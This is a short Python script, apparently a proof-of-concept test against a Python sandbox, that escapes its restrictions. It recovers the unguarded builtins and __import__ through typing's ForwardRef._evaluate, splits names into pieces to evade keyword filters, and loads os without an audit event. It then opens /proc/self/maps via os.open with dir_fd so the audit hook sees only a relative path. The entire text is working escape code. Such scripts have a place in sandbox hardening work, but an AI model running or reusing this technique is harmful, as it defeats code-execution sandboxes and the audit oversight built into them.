# fs: os.open with dir_fd: the audit event carries only the relative path, resolved by the hook against the cwd
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one
o = imp("o" + "s")  # already loaded: no audit event

try:
    root = o.open("/", o.O_RDONLY)
    fd = o.open("proc/self/maps", o.O_RDONLY, dir_fd=root)
    print(M, o.read(fd, 80))
except Exception as e:
    print("refused:", type(e).__name__, e)
